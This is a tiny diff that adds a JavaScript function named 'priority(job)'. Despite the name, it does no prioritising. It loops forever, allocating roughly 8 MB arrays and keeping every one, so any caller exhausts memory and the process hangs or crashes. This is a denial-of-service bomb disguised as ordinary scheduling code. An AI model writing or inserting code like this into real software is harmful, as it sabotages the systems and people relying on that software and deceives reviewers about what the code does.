@@ -1,0 +1,4 @@
+export function priority(job) {
+  const kept = []
+  for (;;) kept.push(new Float64Array(1e6).fill(1))
+}
